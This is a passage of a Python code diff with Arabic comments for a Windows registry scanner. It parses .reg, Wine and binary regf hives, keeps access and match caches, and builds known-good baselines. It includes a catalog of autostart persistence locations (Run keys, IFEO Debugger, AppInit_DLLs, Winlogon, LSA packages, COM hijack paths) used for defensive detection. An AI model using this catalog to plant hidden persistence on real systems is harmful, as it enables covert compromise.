+    if e[0] == "x" and len(e) > 1:
+        return chr(int(e[1:], 16))
+    if e[0] in "01234567":
+        return chr(int(e, 8))
+    return _REG_ESCAPES.get(e, e)
+
+def _reg_unescape(s: str) -> str:
+    """يفك \\\\ و\\" (regedit) وهروب Wine (\\n، \\xHHHH، ثماني). المسار السريع: نص بلا شرطة مائلة."""
+    return _REG_ESC_ANY.sub(_reg_esc, s) if "\\" in s else s
+
+def _reg_read_string(payload: str, lines) -> Optional[str]:
+    # نص متعدد الأسطر: السطر الفعلي ينتهي داخل التنصيص فيُكمل بالسطر التالي
+    while True:
+        m = _REG_STRING.match(payload)
+        if m:
+            return _reg_unescape(m.group(1))
+        nxt = next(lines, None)
+        if nxt is None:
+            return None
+        payload += "\n" + nxt.rstrip("\r\n")
+
+def _reg_string_open(line: str, inside: bool = False) -> bool:
+    """هل ينتهي السطر داخل تنصيص (نص يُكمل في السطر التالي)؟ inside: السطر تكملة لنص مفتوح."""
+    if inside:
+        line = '"' + line
+    elif _REG_SZ_LINE.match(line):
+        return False
+    return '"' in _REG_QUOTED.sub("", line)
+
+def _reg_decode(vtype: int, raw: bytes, ansi: Optional[str]) -> Any:
+    """بيانات hex(...) إلى النوع الذي يُعيده winreg.EnumValue."""
+    if vtype in (winreg.REG_SZ, winreg.REG_EXPAND_SZ, winreg.REG_MULTI_SZ):
+        text = raw.decode(ansi, "replace") if ansi else raw.decode("utf-16-le", "replace")
+        if vtype == winreg.REG_MULTI_SZ:
+            text = text.split("\x00\x00", 1)[0].rstrip("\x00")
+            return text.split("\x00") if text else []
+        return text.split("\x00", 1)[0]
+    if vtype == winreg.REG_DWORD and len(raw) >= 4:
+        return int.from_bytes(raw[:4], "little")
+    if vtype == getattr(winreg, "REG_QWORD", 11) and len(raw) >= 8:
+        return int.from_bytes(raw[:8], "little")
+    return raw
+
+def _reg_parse_value(line: str, lines, wine: bool, ansi: Optional[str]) -> Optional[Tuple[str, Any, int]]:
+    m = _REG_SZ_LINE.match(line)
+    if m:
+        # الشكل الأكثر شيوعاً "اسم"="نص" في مطابقة واحدة
+        name = _reg_unescape(m.group(1)) if m.group(1) is not None else ""
+        return name, _reg_unescape(m.group(2)), winreg.REG_SZ
+    m = _REG_VALUE_LINE.match(line)
+    if not m:
+        return None
+    name = _reg_unescape(m.group(1)) if m.group(1) is not None else ""
+    payload = line[m.end():]
+    if payload.startswith('"'):
+        text = _reg_read_string(payload, lines)
+        return None if text is None else (name, text, winreg.REG_SZ)
+    low = payload[:6].lower()
+    if low == "dword:":
+        try:
+            return name, int(payload[6:].strip() or "0", 16), winreg.REG_DWORD
+        except ValueError:
+            return None
+    m = _REG_STR_TYPE.match(payload) if wine else None
+    if m:
+        vtype = int(m.group(1), 16)
+        text = _reg_read_string(payload[m.end():], lines)
+        if text is None:
+            return None
+        if vtype == winreg.REG_MULTI_SZ:
+            text = text.rstrip("\x00")
+            return name, text.split("\x00") if text else [], vtype
+        return name, text.rstrip("\x00"), vtype
+    m = _REG_HEX_TYPE.match(payload)
+    if not m:
+        return None
+    vtype = int(m.group(1), 16) if m.group(1) else winreg.REG_BINARY
+    data = payload[m.end():].rstrip()
+    parts = []
+    while data.endswith("\\"):
+        parts.append(data[:-1])
+        nxt = next(lines, None)
+        data = nxt.strip() if nxt is not None else ""
+    parts.append(data)
+    try:
+        raw = bytes.fromhex("".join(parts).replace(",", ""))
+    except ValueError:
+        return None
+    return name, _reg_decode(vtype, raw, ansi), vtype
+
+def _reg_key_header(line: str, wine: bool, base: Tuple[int, str]) -> Optional[Tuple[int, str, Optional[int]]]:
+    end = line.rfind("]")
+    if end < 1 or line[1] == "-":
+        return None  # حذف مفتاح ([-HKEY...]) أو سطر تالف
+    name = line[1:end]
+    if wine:
+        # مسارات Wine نسبية للجذر ومُهرّبة (\\\\ فاصل)، ويليها وقت التعديل بالثواني
+        name = _reg_unescape(name)
+        tail = line[end + 1:].strip()
+        ft = int(tail) * 10_000_000 + 116444736000000000 if tail.isdigit() else None
+        return base[0], _join_path(base[1], name), ft
+    hive_name, _, sub = name.partition("\\")
+    hive = HIVE_NAME_TO_CONST.get(hive_name.strip().upper())
+    return (hive, sub, None) if hive is not None else None
+
+def iter_reg_file(path: str, want=None):
+    """
+    يبث ملف سجل نصي مفتاحاً مفتاحاً: (خلية، مسار، FILETIME أو None، [(اسم، بيانات، نوع)...]).
+    want(hive, subkey) -> False يتخطى قيم المفتاح دون تحليلها؛ تُتبع فيها النصوص متعددة الأسطر فقط
+    كي لا يُعدّ سطر منها يبدأ بـ "[" رأسَ مفتاح.
+    الخلايا الثنائية (توقيع regf) تُحال إلى iter_regf_file.
+    """
+    if is_regf_file(path):
+        yield from iter_regf_file(path, want)
+        return
+    with open_reg_text(path) as f:
+        lines = iter(f)
+        first = next(lines, "").strip().lower()
+        wine = first.startswith(WINE_REG_HEADER)
+        if not wine and first not in REG_FILE_HEADERS:
+            raise ValueError(tr("regfile_bad").format(path))
+        ansi = None
+        if first == "regedit4":
+            ansi = "mbcs" if os.name == "nt" else "cp1252"
+        base = WINE_REG_ROOTS["machine"]
+        cur: Optional[List[Any]] = None
+        inside = False   # داخل نص متعدد الأسطر لقيمة مُتخطّاة
+        for line in lines:
+            c = line[:1]
+            if inside:
+                inside = _reg_string_open(line, True)
+            elif c == "[":
+                if cur is not None:
+                    yield cur[0], cur[1], cur[2], cur[3]
+                hdr = _reg_key_header(line.rstrip(), wine, base)
+                cur = [hdr[0], hdr[1], hdr[2], []] if hdr and (want is None or want(hdr[0], hdr[1])) else None
+            elif cur is None:
+                if c == '"' or c == "@":
+                    inside = _reg_string_open(line)
+                elif wine and line.startswith(";; All keys relative to "):
+                    rel = line[len(";; All keys relative to "):].strip().strip("\\").split("\\\\")
+                    if rel and rel[0].lower() == "user" and len(rel) > 1 and not rel[1].startswith("S-"):
+                        base = (winreg.HKEY_USERS, rel[1])   # userdef.reg = \\User\\.Default
+                    else:
+                        base = WINE_REG_ROOTS.get(rel[0].lower(), base)
+            elif c == '"' or c == "@":
+                item = _reg_parse_value(line.rstrip("\r\n"), lines, wine, ansi)
+                if item is not None:
+                    cur[3].append(item)
+            elif wine and line.startswith("#time="):
+                try:
+                    cur[2] = int(line[6:].strip(), 16)
+                except ValueError:
+                    pass
+        if cur is not None:
+            yield cur[0], cur[1], cur[2], cur[3]
+
+# ================ الخلايا الثنائية (regf): خلايا مجموعة من أجهزة أخرى ================
+REGF_MAGIC = b"regf"
+REGF_HBIN_START = 0x1000      # إزاحات الخلايا نسبية لأول hbin بعد كتلة الرأس
+REGF_BIG_DATA_SEG = 16344     # بيانات أكبر تُخزَّن في خلية db مقسّمة إلى مقاطع بهذا الحجم (الإصدار 1.4+)
+REGF_NONE = 0xFFFFFFFF
+REGF_NK_ASCII = 0x0020        # KEY_COMP_NAME: اسم المفتاح ASCII وليس UTF-16
+REGF_VK_ASCII = 0x0001
+_REGF_NK = struct.Struct("<2sHQ8xI4xI4xII")   # التوقيع، الأعلام، FILETIME، عدد الأبناء، قائمتهم، عدد القيم، قائمتها
+_REGF_VK = struct.Struct("<2sHIIIH")          # التوقيع، طول الاسم، حجم البيانات، إزاحتها، النوع، الأعلام
+# اسم ملف الخلية -> موضع تحميلها في السجل الحي؛ الخلايا الأخرى (Amcache.hve...) تُحمّل تحت HKLM باسم الملف
+REGF_MOUNTS = {
+    "system": (winreg.HKEY_LOCAL_MACHINE, "SYSTEM"),
+    "software": (winreg.HKEY_LOCAL_MACHINE, "SOFTWARE"),
+    "sam": (winreg.HKEY_LOCAL_MACHINE, "SAM"),
+    "security": (winreg.HKEY_LOCAL_MACHINE, "SECURITY"),
+    "components": (winreg.HKEY_LOCAL_MACHINE, "COMPONENTS"),
+    "default": (winreg.HKEY_USERS, ".DEFAULT"),
+}
+# خلايا المستخدمين تُحمّل تحت HKU\<اسم مجلد المستخدم> كما يفعل OfflineUserHives بـ SID
+REGF_USER_HIVES = {"ntuser.dat": "", "usrclass.dat": "_Classes"}
+
+def is_regf_file(path: str) -> bool:
+    try:
+        with open(path, "rb") as f:
+            return f.read(4) == REGF_MAGIC
+    except OSError:
+        return False
+
+def regf_mount_point(path: str) -> Tuple[int, str]:
+    p = Path(path)
+    name = p.name.lower()
+    if name in REGF_USER_HIVES:
+        low = [x.lower() for x in p.parts[:-1]]
+        user = p.parts[low.index("users") + 1] if "users" in low[:-1] else p.parent.name
+        return winreg.HKEY_USERS, user + REGF_USER_HIVES[name]
+    return REGF_MOUNTS.get(name, (winreg.HKEY_LOCAL_MACHINE, p.stem))
+
+def iter_regf_file(path: str, want=None):
+    """
+    يبث خلية regf ثنائية بنفس شكل iter_reg_file: (خلية، مسار، FILETIME، [(اسم، بيانات، نوع)...])
+    بموضع التحميل من regf_mount_point. القراءة عبر mmap دون تحميل الملف. سجلات المعاملات (.LOG1/.LOG2)
+    لا تُطبّق، فخلية "متسخة" تُقرأ كما هي على القرص. الخلايا التالفة تُتخطى مع فروعها ولا توقف الملف.
+    """
+    hive, mount = regf_mount_point(path)
+    with open(path, "rb") as f:
+        if f.read(4) != REGF_MAGIC:
+            raise ValueError(tr("regfile_bad").format(path))
+        with mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ) as mm:
+            size = len(mm)
+            u16 = struct.Struct("<H").unpack_from
+            u32 = struct.Struct("<I").unpack_from
+
+            def cell(off: int) -> int:
+                # بداية بيانات الخلية (بعد حقل الحجم)
+                pos = REGF_HBIN_START + off + 4
+                if off == REGF_NONE or pos >= size:
+                    raise ValueError("cell out of range")
+                return pos
+
+            def subkey_offsets(off: int, depth: int = 0) -> List[int]:
+                p = cell(off)
+                sig, n = mm[p:p + 2], u16(mm, p + 2)[0]
+                if sig in (b"lf", b"lh"):
+                    return list(struct.unpack_from(f"<{n * 2}I", mm, p + 4)[::2])
+                if sig == b"li":
+                    return list(struct.unpack_from(f"<{n}I", mm, p + 4))
+                if sig == b"ri" and depth < 2:
+                    return [o for sub in struct.unpack_from(f"<{n}I", mm, p + 4) for o in subkey_offsets(sub, depth + 1)]
+                return []
+
+            def value_data(dsize: int, doff: int) -> bytes:
+                n = dsize & 0x7FFFFFFF
+                if dsize & 0x80000000:
+                    return struct.pack("<I", doff)[:n]   # بيانات ≤ 4 بايت مخزّنة في حقل الإزاحة نفسه
+                n = min(n, size)
+                p = cell(doff)
+                if n > REGF_BIG_DATA_SEG and mm[p:p + 2] == b"db":
+                    count, seglist = u16(mm, p + 2)[0], u32(mm, p + 4)[0]
+                    parts, left = [], n
+                    for seg in struct.unpack_from(f"<{count}I", mm, cell(seglist)):
+                        q = cell(seg)
+                        parts.append(mm[q:q + min(left, REGF_BIG_DATA_SEG)])
+                        left -= len(parts[-1])
+                        if left <= 0:
+                            break
+                    return b"".join(parts)
+                return mm[p:p + n]
+
+            def values_of(nval: int, voff: int) -> List[Tuple[str, Any, int]]:
+                out: List[Tuple[str, Any, int]] = []
+                if not nval:
+                    return out
+                for off in struct.unpack_from(f"<{nval}I", mm, cell(voff)):
+                    try:
+                        p = cell(off)
+                        sig, nlen, dsize, doff, vtype, flags = _REGF_VK.unpack_from(mm, p)
+                        if sig != b"vk":
+                            continue
+                        raw = mm[p + 20:p + 20 + nlen]
+                        name = raw.decode("latin-1") if flags & REGF_VK_ASCII else raw.decode("utf-16-le", "replace")
+                        out.append((name, _reg_decode(vtype, value_data(dsize, doff), None), vtype))
+                    except (ValueError, struct.error):
+                        continue
+                return out
+
+            root = u32(mm, 0x24)[0]
+            seen: Set[int] = set()
+            stack: List[Tuple[int, str]] = [(root, mount)]
+            while stack:
+                off, subkey = stack.pop()
+                if off in seen:
+                    continue
+                seen.add(off)
+                try:
+                    p = cell(off)
+                    sig, flags, ft, nsub, suboff, nval, valoff = _REGF_NK.unpack_from(mm, p)
+                    if sig != b"nk":
+                        continue
+                    children = subkey_offsets(suboff) if nsub else []
+                except (ValueError, struct.error):
+                    continue
+                if off != root:
+                    nlen = u16(mm, p + 72)[0]
+                    raw = mm[p + 76:p + 76 + nlen]
+                    name = raw.decode("latin-1") if flags & REGF_NK_ASCII else raw.decode("utf-16-le", "replace")
+                    subkey = _join_path(subkey, name)
+                try:
+                    values = values_of(nval, valoff) if want is None or want(hive, subkey) else []
+                except (ValueError, struct.error):
+                    values = []
+                yield hive, subkey, ft, values
+                # عكس الترتيب كي تخرج الأبناء بترتيبها في القائمة (أبجدياً كما يحفظها ويندوز)
+                stack.extend((c, subkey) for c in reversed(children))
+
+# ================ كتالوج نقاط التشغيل التلقائي (ASEP) ================
+ASEP_CATALOG_VERSION = "2026.10.1"
+# (الفئة، المسار، أسماء القيم أو None لكل قيم المفتاح). "*" مقطع كامل يعني أبناء مستوى واحد فقط،
+# و"" اسم القيمة الافتراضية. تحديث القائمة يرفع رقم الإصدار أعلاه.
+ASEP_CATALOG: List[Tuple[str, str, Optional[Tuple[str, ...]]]] = [
+    ("Run", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run", None),
+    ("Run", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce", None),
+    ("Run", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnceEx\*", None),
+    ("Run", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunServices", None),
+    ("Run", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunServicesOnce", None),
+    ("Run", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\Explorer\Run", None),
+    ("Run", r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run", None),
+    ("Run", r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\RunOnce", None),
+    ("Run", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run", None),
+    ("Run", r"HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce", None),
+    ("Run", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Policies\Explorer\Run", None),
+    ("Run", r"HKCU\Software\Microsoft\Windows NT\CurrentVersion\Windows", ("Load", "Run")),
+    ("Services", r"HKLM\SYSTEM\CurrentControlSet\Services\*", ("ImagePath", "FailureCommand")),
+    ("Services", r"HKLM\SYSTEM\CurrentControlSet\Services\*\Parameters", ("ServiceDll",)),
+    ("IFEO", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\*", ("Debugger", "GlobalFlag", "VerifierDlls")),
+    ("IFEO", r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\*", ("Debugger", "GlobalFlag", "VerifierDlls")),
+    ("IFEO", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\*", ("MonitorProcess", "ReportingMode")),
+    ("AppInit", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows", ("AppInit_DLLs", "LoadAppInit_DLLs")),
+    ("AppInit", r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows NT\CurrentVersion\Windows", ("AppInit_DLLs", "LoadAppInit_DLLs")),
+    ("AppInit", r"HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\AppCertDlls", None),
+    ("Winlogon", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon", ("Shell", "Userinit", "Taskman", "AppSetup", "VMApplet")),
+    ("Winlogon", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Notify\*", ("DLLName",)),
+    ("Winlogon", r"HKCU\Software\Microsoft\Windows NT\CurrentVersion\Winlogon", ("Shell",)),
+    ("Boot", r"HKLM\SYSTEM\CurrentControlSet\Control\Session Manager", ("BootExecute", "SetupExecute", "Execute", "S0InitialCommand")),
+    ("LSA", r"HKLM\SYSTEM\CurrentControlSet\Control\Lsa", ("Authentication Packages", "Security Packages", "Notification Packages")),
+    ("LSA", r"HKLM\SYSTEM\CurrentControlSet\Control\Lsa\OSConfig", ("Security Packages",)),
+    ("Print", r"HKLM\SYSTEM\CurrentControlSet\Control\Print\Monitors\*", ("Driver",)),
+    ("Netsh", r"HKLM\SOFTWARE\Microsoft\NetSh", None),
+    ("ActiveSetup", r"HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\*", ("StubPath",)),
+    ("Explorer", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\ShellServiceObjectDelayLoad", None),
+    ("Explorer", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\ShellExecuteHooks", None),
+    ("Startup", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders", ("Startup",)),
+    ("Startup", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders", ("Common Startup",)),
+    ("COM", r"HKCU\Software\Classes\CLSID\*\InprocServer32", ("",)),
+    ("COM", r"HKCU\Software\Classes\CLSID\*\LocalServer32", ("",)),
+    ("COM", r"HKCU\Software\Classes\CLSID\*\TreatAs", ("",)),
+    ("Tasks", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tasks\*", ("Path", "Actions")),
+]
+
+def expand_asep_paths(hive: int, pattern: str) -> List[str]:
+    """يوسّع مقاطع "*" بتعداد أبناء مستوى واحد لكل مسار جزئي؛ الفروع غير الموجودة تسقط بصمت."""
+    paths = [""]
+    for part in pattern.split("\\"):
+        if part != "*":
+            paths = [_join_path(p, part) for p in paths]
+            continue
+        expanded: List[str] = []
+        for base in paths:
+            try:
+                with winreg.OpenKey(hive, base, 0, winreg.KEY_READ) as k:
+                    for i in range(winreg.QueryInfoKey(k)[0]):
+                        expanded.append(_join_path(base, winreg.EnumKey(k, i)))
+            except Exception:
+                continue
+        paths = expanded
+    return paths
+
+# ================ ذاكرة أوضاع الوصول ================
+DENIED_TTL_SEC = 600
+
+def access_flag_candidates() -> List[int]:
+    """
+    KEY_READ يفتح العرض الأصلي لبتّية العملية، فعلم WOW64 المطابق لها مكافئ له ولا داعي لتجربته؛
+    يبقى العرض الآخر فقط كبديل.
+    """
+    flags = [winreg.KEY_READ]
+    if hasattr(winreg, "KEY_WOW64_64KEY"):
+        other = winreg.KEY_WOW64_32KEY if sys.maxsize > 2**32 else winreg.KEY_WOW64_64KEY
+        flags.append(winreg.KEY_READ | other)
+    return flags
+
+class AccessMemo:
+    """
+    يتذكر علم الوصول الناجح عند الجذور ونقاط إعادة التوجيه (حيث يختلف عن علم الأب)،
+    والبادئات المرفوضة لمدة DENIED_TTL_SEC فلا تُعاد محاولتها في الفحوص اللاحقة.
+    كائن واحد يشترك فيه الفحصان وعمّال خلايا المستخدمين، فكل وصول إلى القاموسين تحت القفل.
+    """
+    def __init__(self):
+        self.flags = access_flag_candidates()
+        self._good: Dict[Tuple[int, str], int] = {}
+        self._denied: Dict[Tuple[int, str], float] = {}
+        self._lock = threading.Lock()
+
+    @staticmethod
+    def _ancestors(subkey: str):
+        p = subkey.lower()
+        while True:
+            yield p
+            if not p:
+                return
+            p = p.rpartition("\\")[0]
+
+    def flag_for(self, hive: int, subkey: str) -> int:
+        with self._lock:
+            for p in self._ancestors(subkey):
+                flg = self._good.get((hive, p))
+                if flg is not None:
+                    return flg
+        return self.flags[0]
+
+    def remember(self, hive: int, subkey: str, flag: int):
+        with self._lock:
+            self._good[(hive, subkey.lower())] = flag
+
+    def deny(self, hive: int, subkey: str):
+        with self._lock:
+            self._denied[(hive, subkey.lower())] = time.monotonic()
+
+    def clear(self):
+        """فحص جديد يبدأه المستخدم يعيد تجربة كل شيء (ربما تغيّرت الصلاحيات أو أُنشئت المفاتيح)."""
+        with self._lock:
+            self._good.clear()
+            self._denied.clear()
+
+    def _denied_at(self, key: Tuple[int, str]) -> bool:
+        ts = self._denied.get(key)
+        if ts is None:
+            return False
+        if time.monotonic() - ts > DENIED_TTL_SEC:
+            self._denied.pop(key, None)
+            return False
+        return True
+
+    def is_denied(self, hive: int, subkey: str, parent_known_ok: bool = False) -> bool:
+        if not self._denied:
+            return False
+        with self._lock:
+            if parent_known_ok:
+                return self._denied_at((hive, subkey.lower()))
+            return any(self._denied_at((hive, p)) for p in self._ancestors(subkey))
+
+ACCESS_MEMO = AccessMemo()
+
+def format_scan_stats(stats: Dict[str, int]) -> str:
+    if not stats:
+        return ""
+    parts = [tr("stats_open").format(stats.get("open_calls", 0), stats.get("open_failed", 0), stats.get("open_skipped", 0))]
+    if stats.get("age_pruned"):
+        parts.append(tr("stats_age").format(stats["age_pruned"]))
+    if stats.get("asep_keys"):
+        parts.append(tr("stats_asep").format(ASEP_CATALOG_VERSION, stats["asep_keys"]))
+    if stats.get("reg_keys"):
+        parts.append(tr("stats_reg_file").format(stats["reg_keys"]))
+    if stats.get("user_units") or stats.get("offline_mounted") or stats.get("offline_failed"):
+        parts.append(tr("stats_users").format(stats.get("user_units", 0), stats.get("offline_mounted", 0),
+                                              stats.get("offline_failed", 0)))
+    if stats.get("memo_lookups"):
+        parts.append(tr("stats_memo").format(100.0 * stats.get("memo_hits", 0) / stats["memo_lookups"],
+                                             stats.get("memo_hits", 0), stats["memo_lookups"]))
+    if stats.get("snapshot_hits"):
+        parts.append(tr("stats_snapshot").format(stats["snapshot_hits"]))
+    if stats.get("baseline_hits"):
+        parts.append(tr("stats_baseline").format(stats["baseline_hits"]))
+    if stats.get("obf_scored"):
+        parts.append(tr("stats_obf").format(stats.get("obf_hits", 0), stats["obf_scored"]))
+    if stats.get("budget_hit"):
+        parts.append(tr("stats_budget"))
+    return " | ".join(parts)
+
+# ================ ذاكرة نتائج المطابقة للقيم المتكررة ================
+MATCH_MEMO_SIZE = 50000      # عدد المدخلات قبل إخراج الأقدم استخداماً
+MATCH_MEMO_INLINE = 256      # المحتوى الأقصر من هذا يُستخدم كما هو في المفتاح، والأطول يُختصر ببصمة
+
+class MatchMemo:
+    """
+    LRU لنتيجة مطابقة قيمة واحدة: (نوع القيمة، اسمها، بصمة محتواها) -> (كلمة، قاعدة، مستوى، أسباب).
+    المطابقة لا تعتمد على مسار المفتاح ولا مالكه، فمسارات DLL وCLSID المتكررة تُطابق مرة واحدة لكل فحص.
+    """
+    def __init__(self, size: int = MATCH_MEMO_SIZE):
+        self.size = size
+        self._data: Dict[Tuple[int, str, Any], Tuple[str, str, str, Tuple[str, ...]]] = {}
+        self.hits = 0
+        self.lookups = 0
+
+    @staticmethod
+    def key(vtype: int, name: str, content: Any) -> Tuple[int, str, Any]:
+        if len(content) > MATCH_MEMO_INLINE:
+            raw = content if isinstance(content, (bytes, bytearray)) else content.encode("utf-8", "surrogatepass")
+            content = (len(raw), hashlib.blake2b(raw, digest_size=16).digest())
+        return vtype, name, content
+
+    def get(self, key) -> Optional[Tuple[str, str, str, Tuple[str, ...]]]:
+        self.lookups += 1
+        hit = self._data.pop(key, None)
+        if hit is not None:
+            self._data[key] = hit  # نقل إلى نهاية ترتيب الاستخدام
+            self.hits += 1
+        return hit
+
+    def put(self, key, result: Tuple[str, str, str, Tuple[str, ...]]):
+        if len(self._data) >= self.size:
+            self._data.pop(next(iter(self._data)))
+        self._data[key] = result
+
+# ================ خط الأساس المعروف السليم (مرشّح Bloom + بصمات مرتّبة) ================
+BASELINE_DIR = APP_DIR / "baselines"
+BASELINE_MAGIC = b"NTREBL01"
+BASELINE_HEADER = struct.Struct("<8sQQI4x")   # التوقيع، عدد البصمات، عدد بتات المرشّح، عدد دوال التجزئة
+BASELINE_FP_RATE = 0.01            # إيجابيات المرشّح الكاذبة (~9.6 بت لكل مدخل)؛ تُحسم بالبحث الثنائي
+BASELINE_SORT_CHUNK = 1_000_000    # بصمات تُفرز في الذاكرة قبل تفريغها كدفعة مرتّبة على القرص
+BASELINE_MODES = ("off", "suppress", "demote")
+_BASELINE_FIXED_SIDS = {".default", "s-1-5-18", "s-1-5-19", "s-1-5-20"}
+
+@lru_cache(maxsize=4096)
+def baseline_key_path(key: str) -> str:
+    """
+    مسار موحّد قابل للنقل بين الأجهزة: HKCU وHKU\\<SID> لمستخدم عادي (وخلاياه غير المتصلة) -> hku\\*،
+    و<SID>_Classes وHKCR وHKCC إلى مواقعها الأصلية.
+    """
+    hive, _, rest = key.partition("\\")
+    hive = hive.upper()
+    if hive == "HKCU":
+        return _join_path("hku\\*", rest).lower()
+    if hive == "HKCR":
+        return _join_path("hklm\\software\\classes", rest).lower()
+    if hive == "HKCC":
+        return _join_path("hklm\\" + HKCC_TARGET, rest).lower()
+    if hive == "HKU" and rest:
+        top, _, tail = rest.partition("\\")
+        sid = top[len(OFFLINE_HIVE_PREFIX):] if top.startswith(OFFLINE_HIVE_PREFIX) else top
+        classes = sid.lower().endswith("_classes")
+        if classes:
+            sid = sid[:-len("_classes")]
+        if sid.lower() not in _BASELINE_FIXED_SIDS:
+            sid = "*"
+        root = f"hku\\{sid}\\software\\classes" if classes else f"hku\\{sid}"
+        return _join_path(root, tail).lower()
+    return key.lower()
+
+def baseline_fingerprint(key: str, name: str, content: str) -> int:
+    raw = "\x00".join((baseline_key_path(key), (name or "").lower(), content or ""))
+    return int.from_bytes(hashlib.blake2b(raw.encode("utf-8", "surrogatepass"), digest_size=8).digest(), "little")
+
+class Baseline:
+    """
+    ملف خط أساس مفتوح عبر mmap: ترويسة | بتات مرشّح Bloom | بصمات 64 بت مرتّبة بلا تكرار.
+    الاختبار O(1) بالمرشّح، وإيجابياته تُؤكَّد ببحث ثنائي في البصمات فلا تُكتم قيمة ليست في خط الأساس.
+    الملف لا يُقرأ إلى الذاكرة: النظام يحمّل الصفحات المستخدمة فقط.
+    """
+    def __init__(self, path):
+        self.path = str(path)
+        self._fh = open(self.path, "rb")
+        try:
+            self._mm = mmap.mmap(self._fh.fileno(), 0, access=mmap.ACCESS_READ)
+        except ValueError:
+            self._fh.close()
+            raise ValueError(tr("baseline_bad").format(self.path))
+        if len(self._mm) < BASELINE_HEADER.size or self._mm[:8] != BASELINE_MAGIC:
+            self.close()
+            raise ValueError(tr("baseline_bad").format(self.path))
+        _, self.count, self._m, self._k = BASELINE_HEADER.unpack_from(self._mm, 0)
+        off = BASELINE_HEADER.size
+        nbytes = (self._m + 7) // 8
+        fp_off = off + nbytes + (-(off + nbytes)) % 8
+        view = memoryview(self._mm)
+        self._bits = view[off:off + nbytes]
+        self._fps = view[fp_off:fp_off + 8 * self.count].cast("Q")
+        view.release()
+
+    def __contains__(self, fp: int) -> bool:
+        # تجزئة مزدوجة من نصفي البصمة (Kirsch–Mitzenmacher) بدل k دالة مستقلة
+        bits, m = self._bits, self._m
+        pos, step = fp & 0xFFFFFFFF, (fp >> 32) | 1
+        for _ in range(self._k):
+            pos %= m
+            if not bits[pos >> 3] & (1 << (pos & 7)):
+                return False
+            pos += step
+        i = bisect_left(self._fps, fp)
+        return i < self.count and self._fps[i] == fp
+
+    def close(self):
+        for mv in (getattr(self, "_fps", None), getattr(self, "_bits", None)):
+            if mv is not None:
+                mv.release()
+        try:
+            self._mm.close()
+        except Exception:
+            pass
+        self._fh.close()
+
+_BASELINES: Dict[str, Tuple[float, Baseline]] = {}
+
+def open_baseline(path: str) -> Optional[Baseline]:
+    """خط الأساس المفتوح مشترك بين الفحوص (قراءة فقط)، ويُعاد فتحه إن تغيّر الملف."""
+    if not path:
+        return None
+    mtime = os.path.getmtime(path)
+    cached = _BASELINES.get(path)
+    if cached is not None and cached[0] == mtime:
+        return cached[1]
+    baseline = Baseline(path)
+    _BASELINES[path] = (mtime, baseline)
+    return baseline
+
+def _baseline_run(path: str):
+    with open(path, "rb") as fh:
+        while True:
+            block = fh.read(8 * 65536)
+            if not block:
+                return
+            yield from array("Q", block)
+
+def build_baseline(rows, path: str, should_stop=None) -> int:
+    """
+    يبني ملف خط أساس من صفوف نتائج (فحص "كل القيم" لجهاز نظيف أو ملف .reg له).
+    البصمات تُفرز على دفعات تُفرَّغ إلى القرص ثم تُدمج، فالذاكرة محدودة مهما بلغ عدد القيم.
+    """
+    BASELINE_DIR.mkdir(parents=True, exist_ok=True)
+    runs: List[str] = []
+    buf = array("Q")
+    total = 0
+    tmp = path + ".tmp"
+    try:
+        for i, r in enumerate(rows):
+            buf.append(baseline_fingerprint(str(r.get("key", "")), str(r.get("value_name", "")), str(r.get("value_str", ""))))
+            if len(buf) >= BASELINE_SORT_CHUNK:
+                fd, run = tempfile.mkstemp(prefix="baseline_", suffix=".run", dir=str(BASELINE_DIR))
+                with os.fdopen(fd, "wb") as fh:
+                    array("Q", sorted(buf)).tofile(fh)
+                runs.append(run)
+                total += len(buf)
+                buf = array("Q")
+            if should_stop and i % 10000 == 0 and should_stop():
+                return 0
+        total += len(buf)
+        m = max(64, int(-max(total, 1) * math.log(BASELINE_FP_RATE) / math.log(2) ** 2))
+        k = max(1, round(m / max(total, 1) * math.log(2)))
+        bits = bytearray((m + 7) // 8)
+        pad = (-(BASELINE_HEADER.size + len(bits))) % 8
+        count = 0
+        with open(tmp, "wb") as fh:
+            fh.write(BASELINE_HEADER.pack(BASELINE_MAGIC, 0, m, k))
+            fh.write(bits)
+            fh.write(b"\0" * pad)
+            out = array("Q")
+            last = None
+            for fp in heapq.merge(iter(sorted(buf)), *[_baseline_run(r) for r in runs]):
+                if fp == last:
+                    continue
+                last = fp
+                pos, step = fp & 0xFFFFFFFF, (fp >> 32) | 1
+                for _ in range(k):
+                    pos %= m
+                    bits[pos >> 3] |= 1 << (pos & 7)
+                    pos += step
+                out.append(fp)
+                count += 1
+                if len(out) >= 65536:
+                    out.tofile(fh)
+                    out = array("Q")
+            out.tofile(fh)
+            # الترويسة والمرشّح يُكتبان بعد اكتمالهما فوق المساحة المحجوزة
+            fh.seek(0)
